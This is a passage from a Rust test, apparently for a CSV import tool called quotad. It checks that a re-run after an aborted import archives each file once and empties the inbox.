        assert_eq!(imported, 1, "{point}: the first file (the roster) was imported, then the abort");
        // The next import finishes the job: each file imported once, archived once.
        let r = env.quotad(&["import"]);
        assert_eq!(r.code, 0, "{point}: {r:?}");
        assert_eq!(env.files_in("inbox"), Vec::<String>::new(), "{point}");
        assert_eq!(env.files_in("archive"), ["deals-1.csv", "deals-2.csv", "roster.csv"], "{point}");
        assert_eq!(env.store().counts().unwrap(), (2, 0, 3), "{point}");
    }
}
